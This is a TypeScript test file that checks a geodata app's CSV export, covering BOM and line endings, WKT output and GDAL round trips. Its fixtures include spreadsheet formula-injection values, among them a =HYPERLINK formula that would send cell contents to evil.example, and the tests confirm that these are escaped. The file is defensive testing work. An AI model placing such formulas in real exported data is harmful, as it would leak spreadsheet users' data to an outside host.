import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Feature, FeatureCollection, Geometry } from 'geojson';
import { exportCsv } from '../../../../src/edit/export/csvExport';
import { FORMULA_START } from '../../../../src/stats/csv';
import { geometryToWkt } from '../../../../src/edit/export/wkt';
import { HAS_OGR, SKIP_NOTE, maxCoordinateDifference, ogrFeaturesText, ogrRead, ogrSummary, tempDir } from './gdal';

const layer = (file: string) => (JSON.parse(readFileSync(`geodata/${file}`, 'utf8')) as FeatureCollection).features;
const point = (x: number, y: number): Geometry => ({ type: 'Point', coordinates: [x, y] });

const HOSTILE: Feature<Geometry | null>[] = [
  { type: 'Feature', properties: { name_zh: '=HYPERLINK("https://evil.example/?leak="&A1)', n: -3, s: '-3' }, geometry: point(120.5, 27.25) },
  { type: 'Feature', properties: { name_zh: '@SUM(1)', n: 1.5, flag: true }, geometry: point(-0.5, 28) },
  { type: 'Feature', properties: { name_zh: '+1', s: 'a,b', extra: null }, geometry: { type: 'LineString', coordinates: [[120, 28], [121, 28.5]] } },
  { type: 'Feature', properties: { name_zh: '=1+1\n第二行', s: '\tx' }, geometry: null },
];

describe('CSV export', () => {
  it('starts with a BOM, ends lines with CRLF and escapes formulas but not numbers', () => {
    expect(exportCsv(HOSTILE)).toBe(
      '\uFEFFname_zh,n,s,flag,extra,lng,lat,wkt\r\n' +
        `"'=HYPERLINK(""https://evil.example/?leak=""&A1)",-3,"'-3",,,120.5,27.25,\r\n` +
        `"'@SUM(1)",1.5,,true,,-0.5,28,\r\n` +
        `"'+1",,"a,b",,,,,"LINESTRING (120 28, 121 28.5)"\r\n` +
        `"'=1+1\n第二行",,"'\tx",,,,,`,
    );
  });

  it('escapes a value with a line break, which papaparse’s own escapeFormulae misses', () => {
    expect(FORMULA_START.test('=1+1\nx')).toBe(true);
    expect(/^[=+\-@\t\r].*$/.test('=1+1\nx')).toBe(false); // papaparse 5.7's pattern
  });

  it('keeps the given column order and takes lng/lat from the geometry, never a property', () => {
    const f: Feature = { type: 'Feature', properties: { id: 'a', lng: 1, name_zh: '甲' }, geometry: point(120.1, 27.9) };
    expect(exportCsv([f], ['name_zh', 'lng', 'id'])).toBe('\uFEFFname_zh,id,lng,lat\r\n甲,a,120.1,27.9');
  });

  it('writes WKT for every GeoJSON geometry type', () => {
    const ring = [[0, 0], [1, 0], [1, 1], [0, 0]];
    expect(geometryToWkt({ type: 'Point', coordinates: [1.5, -2, 3] })).toBe('POINT Z (1.5 -2 3)');
    expect(geometryToWkt({ type: 'MultiPoint', coordinates: [[0, 0], [1, 1]] })).toBe('MULTIPOINT ((0 0), (1 1))');
    expect(geometryToWkt({ type: 'MultiLineString', coordinates: [[[0, 0], [1, 1]], [[2, 2], [3, 3]]] })).toBe('MULTILINESTRING ((0 0, 1 1), (2 2, 3 3))');
    expect(geometryToWkt({ type: 'Polygon', coordinates: [ring, ring] })).toBe('POLYGON ((0 0, 1 0, 1 1, 0 0), (0 0, 1 0, 1 1, 0 0))');
    expect(geometryToWkt({ type: 'MultiPolygon', coordinates: [[ring], []] })).toBe('MULTIPOLYGON (((0 0, 1 0, 1 1, 0 0)), EMPTY)');
    expect(geometryToWkt({ type: 'GeometryCollection', geometries: [point(1, 2)] })).toBe('GEOMETRYCOLLECTION (POINT (1 2))');
    expect(geometryToWkt({ type: 'LineString', coordinates: [] })).toBe('LINESTRING EMPTY');
  });
});

describe.skipIf(!HAS_OGR)(`CSV export read back by GDAL${SKIP_NOTE}`, () => {
  let dir = '';
  beforeAll(() => {
    dir = tempDir();
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));
  const XY = ['X_POSSIBLE_NAMES=lng', 'Y_POSSIBLE_NAMES=lat', 'EMPTY_STRING_AS_NULL=YES'];
  /** What a cell must read back as: text as written (after the formula escape), empty as null. */
  const asRead = (v: unknown) => (v === null || v === undefined ? null : typeof v === 'string' && FORMULA_START.test(v) ? `'${v}` : String(v));

  it.each([
    ['stations', 'rail/stations.geojson', 46],
    ['projects', 'projects/projects.geojson', 146],
    ['counties', 'admin/counties.geojson', 12],
  ])('%s: same count, every value and the geometry', (name, file, count) => {
    const features = layer(file);
    const path = join(dir, `${name}.csv`);
    writeFileSync(path, exportCsv(features));
    const read = ogrRead(path, XY).features;
    expect(read).toHaveLength(count);
    // The BOM is not part of the first column's name.
    expect(ogrSummary(path, XY)).toMatch(/\nid: String/);
    read.forEach((r, i) => {
      const f = features[i]!;
      expect(r.properties!.name_zh).toBe(f.properties!.name_zh);
      for (const [k, v] of Object.entries(f.properties!)) expect([k, r.properties![k]]).toEqual([k, asRead(v)]);
      expect(maxCoordinateDifference(r.geometry!, f.geometry!)).toBeLessThan(1e-6);
    });
  });

  it('numbers stay numbers and formula cells come out prefixed', () => {
    const path = join(dir, 'hostile.csv');
    writeFileSync(path, exportCsv(HOSTILE));
    const oo = [...XY, 'AUTODETECT_TYPE=YES'];
    expect(ogrSummary(path, oo)).toContain('\nn: Real (0.0)\ns: String (0.0)\n');
    const read = ogrRead(path, oo).features.map((f) => f.properties);
    expect(read.map((p) => p!.name_zh)).toEqual(["'=HYPERLINK(\"https://evil.example/?leak=\"&A1)", "'@SUM(1)", "'+1", "'=1+1\n第二行"]);
    expect(read.map((p) => [p!.n ?? null, p!.s ?? null])).toEqual([[-3, "'-3"], [1.5, null], [null, 'a,b'], [null, "'\tx"]]);
    expect(ogrFeaturesText(path, oo)).toContain(`  name_zh (String) = '=HYPERLINK("https://evil.example/?leak="&A1)\n`);
  });
});
